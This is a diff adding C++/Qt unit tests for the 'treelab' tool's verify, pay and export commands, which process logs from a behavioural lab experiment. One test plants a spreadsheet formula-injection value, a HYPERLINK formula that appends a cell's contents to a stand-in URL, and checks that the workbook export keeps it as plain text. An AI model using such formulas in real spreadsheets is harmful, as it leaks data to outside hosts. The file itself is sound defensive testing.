@@ -1,0 +1,163 @@
+#include "LabFolders.h"
+
+#include <QDir>
+#include <QFile>
+#include <QProcess>
+#include <QTemporaryDir>
+#include <QTest>
+
+using LabFolders::fileBytes;
+using LabFolders::treelab;
+
+namespace {
+
+QString report(const LabFolders::Run &run)
+{
+    return QStringLiteral("exit %1\n--- stdout\n%2--- stderr\n%3").arg(run.exitCode).arg(run.out, run.err);
+}
+
+// The whole-experiment log with lines put in after the line that begins with after, or
+// that line replaced when replace is set.
+QByteArray edited(const QByteArray &after, const QByteArray &lines, bool replace = false)
+{
+    QByteArray log = LabFolders::wholeExperimentLog();
+    const qsizetype at = log.indexOf("\r\n" + after) + 2;
+    const qsizetype end = log.indexOf("\r\n", at) + 2;
+    return replace ? log.replace(at, end - at, lines) : log.insert(end, lines);
+}
+
+const QString Pound = QString(QChar(0x00A3));
+
+} // namespace
+
+// treelab verify, and pay and export on logs that verify passes, fails, or checks against
+// a companion record.
+class TestVerifyCommand : public QObject
+{
+    Q_OBJECT
+
+    QTemporaryDir m_dir;
+
+    QString station(const QString &name, const QByteArray &log)
+    {
+        return QDir(LabFolders::workstation(m_dir.path(), name, " 2 \r\n", log)).filePath(QStringLiteral("o199btinp.01"));
+    }
+    QString out(const QString &name) const { return m_dir.filePath(name); }
+    LabFolders::Run pay(const QStringList &extra)
+    {
+        return treelab(QStringList{QStringLiteral("pay"), QStringLiteral("--seed"), QStringLiteral("42"),
+                                   QStringLiteral("--out"), out(QStringLiteral("pay.csv"))} + extra);
+    }
+
+private slots:
+    // A subject typed lines in the form of records into a notepad: they stay text, and
+    // pay sees the four attempts that happened.
+    void forgedRecordsInANotepadAreText_data()
+    {
+        QTest::addColumn<QByteArray>("log");
+        QTest::newRow("payoff and Continue typed into d1's notepad")
+            << edited("20 NotepadContents     1 0 Right", "9 FinalPayoffNode     12\r\n9 Continue            \r\n");
+        QTest::newRow("Continue typed into c3's notepad where one may follow")
+            << edited("51 NotepadContents     6 25", "9 Continue            \r\n");
+    }
+    void forgedRecordsInANotepadAreText()
+    {
+        QFETCH(QByteArray, log);
+        const QString path = station(QString::fromLatin1(QTest::currentDataTag()).left(8), log);
+        const auto verify = treelab({QStringLiteral("verify"), path});
+        QVERIFY2(verify.exitCode == 0 && verify.out.contains(QStringLiteral(": ok: subject 99, set 1, 100 records, 4 attempts")),
+                 qPrintable(report(verify)));
+        const auto paid = pay({path});
+        QVERIFY2(paid.exitCode == 0 && paid.out.contains(QStringLiteral("o199btinp.01,99,1,4,")), qPrintable(report(paid)));
+    }
+
+    void aDamagedLogIsRefusedUnlessForced()
+    {
+        const QString path = station(QStringLiteral("damaged"), edited("49 FinalPayoffNode", "49 FinalPayoffNode     12\r\n", true));
+        const auto verify = treelab({QStringLiteral("verify"), path});
+        QCOMPARE(verify.exitCode, 1);
+        QVERIFY2(verify.out.contains(QStringLiteral("line 30: \"49 FinalPayoffNode     12\" cannot come here: the rules "
+                                                    "expect the FinalPayoffNode record of p(50)")),
+                 qPrintable(report(verify)));
+        QFile::remove(out(QStringLiteral("pay.csv")));
+        const auto refused = pay({path});
+        QVERIFY2(refused.exitCode == 1 && refused.err.contains(QStringLiteral("give --force")), qPrintable(report(refused)));
+        QVERIFY(!QFile::exists(out(QStringLiteral("pay.csv"))));
+        for (const QString &command : {QStringLiteral("pay"), QStringLiteral("export")}) {
+            const auto forced = command == QLatin1String("pay")
+                ? pay({path, QStringLiteral("--force")})
+                : treelab({command, path, QStringLiteral("--force"), QStringLiteral("--events"), out(QStringLiteral("e.csv"))});
+            QVERIFY2(forced.exitCode == 0, qPrintable(report(forced)));
+            QVERIFY2(forced.err.contains(QStringLiteral("forced: ") + QDir::toNativeSeparators(path) + QStringLiteral(":30: ")),
+                     qPrintable(report(forced)));
+        }
+    }
+
+    void aLogWithLfLineEndsIsReadWithOneWarning()
+    {
+        const QString path = station(QStringLiteral("lf"), LabFolders::wholeExperimentLog().replace("\r\n", "\n"));
+        const auto verify = treelab({QStringLiteral("verify"), path});
+        QVERIFY2(verify.exitCode == 0, qPrintable(report(verify)));
+        QCOMPARE(verify.out.count(QStringLiteral("warning")), 1);
+        const auto paid = pay({path});
+        QVERIFY2(paid.exitCode == 0 && paid.err.count(QStringLiteral("warning")) == 1, qPrintable(report(paid)));
+    }
+
+    // A hand-written one-attempt log of subject 7 and its companion record: the notepad
+    // text "go right \u2192" is "go right ?" in the log, and the companion shows £8 at p(50),
+    // where the payoff file beside it now says £51.
+    void aLogIsCheckedAgainstItsCompanion()
+    {
+        const QString folder = LabFolders::workstation(m_dir.path(), QStringLiteral("companion"), " 2 \r\n", {});
+        const QString log = QDir(folder).filePath(QStringLiteral("o17btinp.01"));
+        for (const QString &name : {QStringLiteral("o17btinp.01"), QStringLiteral("o17btinp.01.jsonl")})
+            QVERIFY(QFile::copy(QStringLiteral(DT_LAB_DATA "/") + name, QDir(folder).filePath(name)));
+        const auto verify = treelab({QStringLiteral("verify"), log});
+        QVERIFY2(verify.exitCode == 0 && verify.out.contains(QStringLiteral("agrees with its companion record")),
+                 qPrintable(report(verify)));
+        const auto paid = pay({log});
+        QVERIFY2(paid.exitCode == 0 && paid.out.contains(QStringLiteral(",1,50,") + Pound + QStringLiteral("8,8\n")),
+                 qPrintable(report(paid)));
+        const auto exported = treelab({QStringLiteral("export"), log, QStringLiteral("--events"), out(QStringLiteral("c.csv"))});
+        QVERIFY2(exported.exitCode == 0, qPrintable(report(exported)));
+        const QString events = QString::fromUtf8(fileBytes(out(QStringLiteral("c.csv"))));
+        // d1 clicked at 5100 ms, c1 at 11050 ms; the exact text; the wall-clock time.
+        QVERIFY2(events.contains(QStringLiteral(",5,d1,1,0,,,5100,2026-12-08T10:00:05.600+01:00,5950\n")), qPrintable(events));
+        QVERIFY(events.contains(QStringLiteral(",NotepadContents,1,0,,go right \u2192,11050,")));
+
+        QFile companion(QDir(folder).filePath(QStringLiteral("o17btinp.01.jsonl")));
+        QByteArray bytes = fileBytes(companion.fileName());
+        QVERIFY(LabFolders::putFile(companion.fileName(), bytes.replace("go right \xE2\x86\x92", "go left")));
+        const auto differs = treelab({QStringLiteral("verify"), log});
+        QVERIFY2(differs.exitCode == 1 && differs.out.contains(QStringLiteral("line 6: the notepad text differs")),
+                 qPrintable(report(differs)));
+    }
+
+    // The workbook read back: a notepad text that looks like a formula is a text cell, the
+    // numbers are numbers.
+    void theWorkbookHoldsTextCellsAndNumbers()
+    {
+        const QString path = station(QStringLiteral("xlsx"),
+                                     LabFolders::wholeExperimentLog().replace("fingers crossed", "=HYPERLINK(\"http://x?y=\"&A2) \xA3"));
+        const QString book = out(QStringLiteral("t.xlsx"));
+        const auto run = treelab({QStringLiteral("export"), path, QStringLiteral("--xlsx"), book});
+        QVERIFY2(run.exitCode == 0, qPrintable(report(run)));
+        const auto unzip = [&](const QString &member) {
+            QProcess process;
+            process.start(QStringLiteral("unzip"), {QStringLiteral("-p"), book, member});
+            process.waitForFinished(10000);
+            return QString::fromUtf8(process.readAllStandardOutput());
+        };
+        const QString strings = unzip(QStringLiteral("xl/sharedStrings.xml"));
+        const QString events = unzip(QStringLiteral("xl/worksheets/sheet1.xml"));
+        QVERIFY2(strings.contains(QStringLiteral("<t>=HYPERLINK(\"http://x?y=\"&amp;A2) ") + Pound + QStringLiteral("</t>")),
+                 qPrintable(strings));
+        QVERIFY(!events.contains(QStringLiteral("<f>")));
+        QVERIFY2(events.contains(QStringLiteral("<c r=\"B2\"><v>99</v></c>")), qPrintable(events.left(2000))); // subject
+        QVERIFY(events.contains(QStringLiteral("<c r=\"G2\" t=\"s\">")));                                   // kind
+        QVERIFY(unzip(QStringLiteral("xl/workbook.xml")).contains(QStringLiteral("name=\"attempts\"")));
+    }
+};
+
+QTEST_GUILESS_MAIN(TestVerifyCommand)
+#include "TestVerifyCommand.moc"
